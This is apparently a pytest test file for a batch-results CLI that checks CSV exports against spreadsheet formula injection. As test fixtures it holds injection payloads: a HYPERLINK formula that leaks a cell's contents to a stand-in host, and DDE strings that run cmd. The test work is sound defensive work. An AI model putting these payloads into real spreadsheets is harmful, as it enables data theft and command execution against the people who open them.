"""`results --format csv` against CSV injection: text cells a spreadsheet would run as a
formula get a leading ' (OWASP), numbers stay numbers, and --csv-raw (``csv_raw=True``)
writes every cell as it is for programs."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

import batchrun
from batchrun.cli.app import app
from batchrun.export.flat import neutralise_formula
from batchrun.records import FinishedRequest, Usage
from batchrun.store.store import Store
from tests.conftest import cli_env, request_line

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
# Answers a spreadsheet would run: each begins with one of = + - @ tab CR.
FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# Answers that are numbers, or plain text: as they are.
LEFT_ALONE = {"negative": "-5", "signed": "+1.5e3", "plain": "a = b"}


def _message(text: str) -> str:
    return json.dumps(
        {
            "type": "message",
            "role": "assistant",
            "model": "claude-sonnet-4-5",
            "content": [{"type": "text", "text": text}],
            "stop_reason": "end_turn",
            "usage": {"input_tokens": 3, "output_tokens": 2},
        }
    )


@pytest.fixture
def answered(db_url: str, tmp_path: Path) -> Iterator[tuple[batchrun.Client, str]]:
    """A batch whose answers are FORMULAS and LEFT_ALONE, and one request (custom_id
    ``-err``) that errored with a formula for a message."""
    texts = FORMULAS | LEFT_ALONE
    with batchrun.Client(db_url, env={"HOME": str(tmp_path)}, cwd=tmp_path) as client:
        batch = client.submit(
            [request_line(name) for name in [*texts, "-err"]], endpoint="simulator"
        )
        store = Store.open(db_url)
        try:
            claimed = store.leases.claim(
                owner="w", batch_ids=[batch.id], limit=len(texts) + 1, now=NOW, lease_s=60
            )
            finished = [
                FinishedRequest(
                    request_id=item.id,
                    batch_id=batch.id,
                    custom_id=item.custom_id,
                    result_type="errored" if item.custom_id == "-err" else "succeeded",
                    attempts=1,
                    completed_at=NOW,
                    http_status=400 if item.custom_id == "-err" else 200,
                    model="claude-sonnet-4-5",
                    usage=None if item.custom_id == "-err" else Usage(3, 2, 0, 0),
                    error_type="invalid_request_error" if item.custom_id == "-err" else None,
                    error_message="=1+1 is not allowed" if item.custom_id == "-err" else None,
                    body=_message(texts.get(item.custom_id, "")),
                )
                for item in claimed
            ]
            store.results.record(owner="w", now=NOW, finished=finished)
        finally:
            store.close()
        yield client, batch.id


def _rows(
    client: batchrun.Client, batch_id: str, *, csv_raw: bool = False
) -> dict[str, dict[str, str]]:
    stream = io.StringIO(newline="")
    client.export(batch_id, stream, format="csv", csv_raw=csv_raw)
    return {
        row["custom_id"]: row for row in csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
    }


def test_text_cells_that_start_a_formula_get_a_leading_quote(
    answered: tuple[batchrun.Client, str],
) -> None:
    client, batch_id = answered

    rows = _rows(client, batch_id)

    for name, text in FORMULAS.items():
        assert rows[name]["text"] == "'" + text, name
    for name, text in LEFT_ALONE.items():
        assert rows[name]["text"] == text, name
    # The error message, and the custom_id itself, are text cells like any other.
    assert rows["'-err"]["error_message"] == "'=1+1 is not allowed"
    # Numbers are written as numbers.
    assert rows["eq"]["input_tokens"] == "3" and float(rows["eq"]["cost_usd"]) > 0


def test_csv_raw_writes_every_cell_as_it_is(answered: tuple[batchrun.Client, str]) -> None:
    client, batch_id = answered

    rows = _rows(client, batch_id, csv_raw=True)

    for name, text in (FORMULAS | LEFT_ALONE).items():
        assert rows[name]["text"] == text, name
    assert rows["-err"]["error_message"] == "=1+1 is not allowed"


def test_numbers_are_never_neutralised() -> None:
    assert neutralise_formula(-3) == -3
    assert neutralise_formula(-0.25) == -0.25
    assert neutralise_formula("-0.25") == "-0.25"
    assert neutralise_formula("-0.25x") == "'-0.25x"
    assert neutralise_formula("") == ""


def test_the_cli_neutralises_by_default_takes_csv_raw_and_refuses_it_for_other_formats(
    answered: tuple[batchrun.Client, str],
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _, batch_id = answered
    monkeypatch.chdir(tmp_path)
    cli = CliRunner(env=cli_env(db_url, tmp_path / "home"))

    default = cli.invoke(app, ["results", batch_id, "--format", "csv"])
    raw = cli.invoke(app, ["results", batch_id, "--format", "csv", "--csv-raw"])
    wrong = cli.invoke(app, ["results", batch_id, "--format", "flat", "--csv-raw"])
    helped = cli.invoke(app, ["results", "--help"], env={"COLUMNS": "200"})

    assert default.exit_code == raw.exit_code == 0, default.output + raw.output
    assert "'=HYPERLINK" in default.stdout and "\n=HYPERLINK" not in default.stdout
    assert '\n"=HYPERLINK' not in default.stdout
    assert "=HYPERLINK" in raw.stdout and "'=HYPERLINK" not in raw.stdout
    assert wrong.exit_code == 1, wrong.output
    assert "--csv-raw" in wrong.stderr and "--format csv" in wrong.stderr
    assert len(wrong.stderr.strip().splitlines()) == 1
    assert "--csv-raw" in helped.stdout
